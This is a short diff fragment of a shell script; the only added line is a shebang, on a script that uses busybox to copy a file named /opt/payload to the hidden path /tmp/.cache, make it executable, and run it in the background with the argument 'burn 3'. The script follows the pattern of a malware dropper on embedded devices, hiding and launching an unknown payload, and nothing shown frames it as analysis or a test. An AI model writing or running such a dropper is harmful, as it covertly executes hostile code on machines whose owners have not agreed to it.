@@ -1,3 +1,4 @@
+#!/bin/sh
 /bin/busybox cp /opt/payload /tmp/.cache
 /bin/busybox chmod 755 /tmp/.cache
 /tmp/.cache burn 3 &
